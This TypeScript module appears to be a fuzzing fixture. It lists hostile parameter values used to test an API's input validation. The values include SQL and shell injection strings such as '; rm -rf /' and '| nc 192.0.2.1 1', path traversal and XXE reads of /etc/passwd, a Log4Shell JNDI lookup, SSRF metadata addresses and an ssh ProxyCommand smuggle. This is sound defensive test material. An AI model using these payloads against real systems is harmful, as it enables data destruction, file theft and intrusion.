/** What hostile callers put into parameters. */

/** Nests an array in itself. */
const deepArray = (levels: number): string => '['.repeat(levels) + ']'.repeat(levels);

/** Texts as a program would hold them: each may be put anywhere. */
export const HOSTILE_TEXTS: readonly string[] = [
  // Nothing and almost nothing.
  ...['', ' ', '\t', '\n', 'null', 'undefined', 'true', '[]', '{}'],
  // SQL, shell, options, paths.
  ...["' OR '1'='1", '"; DROP TABLE user; -- ', "\\' OR 1=1 #", '%', '_%_', '\\', '1;SELECT SLEEP(9)'],
  ...['$(reboot)', '`id`', '; rm -rf /', '| nc 192.0.2.1 1', '&& true', '--help', '-drive', '-o', '$IFS'],
  ...['../../etc/passwd', '/etc/passwd', '..\\..\\x', 'file:///etc/passwd', '.', '..', 'a/../b', '/', '//'],
  // XML, HTML, templates.
  ...[
    '<script>alert(1)</script>',
    ']]>',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '&lt;&#0;',
  ],
  ...['{{7*7}}', '${jndi:ldap://192.0.2.1/x}', '<%= 1 %>', '%s%n%x', '{"$gt":""}'],
  // Lines and headers.
  ...['a\r\nX-Injected: yes\r\n\r\n<html>', 'a\nlevel=error msg=forged', 'a\u2028b', 'a\u0085b'],
  // Control characters and terminals.
  ...['\0', 'a\0b', '\u001b[31mred', '\u0007', 'a\bb', '\u007f', '\u009b31m'],
  // Unicode.
  ...[
    '\u202egpj.exe',
    '\u2066a\u2069',
    `e${'\u0301'.repeat(100)}`,
    '\u0430dmin',
    'ad\u200bmin',
    '\ufeffadmin',
    '\u{1F600}',
  ],
  ...[
    '\u{1F469}\u200d\u{1F4BB}',
    'ＡＤＭＩＮ',
    'ﬁle',
    'İ',
    'ß',
    '\uffff',
    '\ufdd0',
    '\u{10ffff}',
    'admin\u00a0',
    'ádmin',
  ],
  // Numbers in all dresses.
  ...[
    '0',
    '-1',
    '+1',
    '1e3',
    '1E400',
    '1.5',
    '-0',
    'NaN',
    'Infinity',
    '-Infinity',
    '0x10',
    '0b1',
    '1_000',
    '１２',
    ' 1 ',
    '٣',
  ],
  ...['2147483648', '-2147483649', '9007199254740993', '99999999999999999999', '9'.repeat(400), '0.1e-9', '1,5'],
  // Moments.
  ...[
    '0000-00-00',
    '2026-02-30',
    '9999-99-99T99:99:99Z',
    '+275760-09-13',
    "2021-10-02T17:44:42+0000' --",
    '0001-01-01',
    'now',
  ],
  // Names of prototypes.
  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__proto__[x]'],
  // Structure.
  ...[
    deepArray(60),
    'a,'.repeat(300),
    ',,,',
    'a=b&c=d',
    'a;b',
    '::ffff:127.0.0.1',
    '127.1',
    '0177.0.0.1',
    'http://[::1]/',
    'http://169.254.169.254/',
  ],
];

/** Addresses and paths that are nearly what a URL parameter takes. */
export const HOSTILE_URLS: readonly string[] = [
  ...[
    'file:///%ZZ',
    'file:///a/../b',
    'file:////',
    'file://host/a',
    'file:///a%00b',
    'file:///a//b',
    'file:///./a',
    'file:///',
  ],
  ...['SharedMountPoint:///srv/../etc', 'SharedMountPoint://localhost', 'SharedMountPoint:///a/./b', 'nfs://h/x'],
  ...[`file:///${'x'.repeat(1_100)}`, `SharedMountPoint:///${'y/'.repeat(900)}`, `http://h/${'z'.repeat(2_000)}`],
  ...[
    'agent://127.0.0.1:99999',
    'agent://',
    'agent://h',
    'agent://[::1',
    'ssh://-oProxyCommand=x@h',
    'ssh://a b',
    'ssh://h:0',
  ],
  ...[
    'http://user:secret@h/x',
    'http://h:99999/',
    'http://%zz/',
    'ftp://h/x',
    'gopher://h',
    'javascript:alert(1)',
    'http:/h',
    'HTTP://h',
  ],
];

/** Too long for any field but user data, and for some of them as well. */
export const LONG_TEXTS: readonly string[] = [
  'x'.repeat(256),
  'é'.repeat(4_097),
  '\u{1F600}'.repeat(130),
  ' '.repeat(300),
];

/** Texts that are not the percent-encoding of anything. */
export const BROKEN_ENCODINGS: readonly string[] = [
  ...['%ZZ', '%', 'a%', '%1', '%u0041', '%%41'],
  // Invalid, overlong, surrogates, above the last code point, cut off.
  ...['%FF%FE', '%C0%AF', '%E0%80%AF', '%ED%A0%80', '%F5%80%80%80', '%F4%90%80%80', '%E2%82', '%80', 'a%C3'],
];

/** For each wire type, texts that can never be one. */
export const NEVER: Readonly<Record<string, readonly string[]>> = {
  uuid: ['1', "' OR '1'='1", '00000000-0000-0000-0000-00000000000g', '../..', 'x'.repeat(300), '{}', '\u0430'],
  integer: [
    'abc',
    '1.5',
    'NaN',
    'Infinity',
    '0x10',
    '1e3',
    '99999999999999999999',
    '9'.repeat(400),
    '１２',
    '1;2',
    '--1',
  ],
  long: ['abc', '1.5', 'NaN', '-Infinity', '0x10', '1e3', '99999999999999999999', '9'.repeat(400), '٣', '1 2'],
  float: ['abc', 'NaN', 'Infinity', '0x10', '1e', '1,5'],
  boolean: ['maybe', '1', 'yes', 'truee', 'null', "true' --"],
  date: ['never', '2026-13-45', '9999-99-99T99:99:99Z', "2026-01-01' --", '1e9', '\u0661'],
};

/** For each wire type, JSON values that can never be one. */
export const NEVER_JSON: Readonly<Record<string, readonly unknown[]>> = {
  uuid: [1, true, [], {}, ['a'], { $ne: '' }, 'x'],
  string: [1, -0.5, true, [], {}, ['a'], { $gt: '' }, [[[[]]]]],
  integer: ['abc', '1', 1.5, true, [], {}, [1], 1e300, -1e300],
  long: ['abc', '1', 0.1, true, [], {}, 1e300],
  float: ['abc', true, [], {}],
  boolean: ['true', 1, 0, [], {}],
  date: [1, true, [], {}, 'never'],
  list: ['a,b', 1, true, { 0: 'a' }, [{}], [[]], [1]],
  map: ['a', 1, true, ['a'], { a: 1 }, { a: {} }, { a: ['b'] }],
};

/** Names that no command declares: they are ignored, and signed all the same. */
export const STRANGE_NAMES: readonly string[] = [
  ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'filter', '_', 'a'.repeat(300), 'x[0]', 'x[0].y'],
  ...['details[0].__proto__', 'details[999999999].key', 'details[-1].key', 'details[1e3].a', 'tags[0].key.value'],
  ...[
    'tags[0][1]',
    'tags[]',
    'tags[',
    'details',
    'id[0]',
    'id.id',
    'a b',
    'a\r\nb',
    'é',
    '\u{1F600}',
    "a'b",
    'a<b',
    'page[0]',
  ],
];
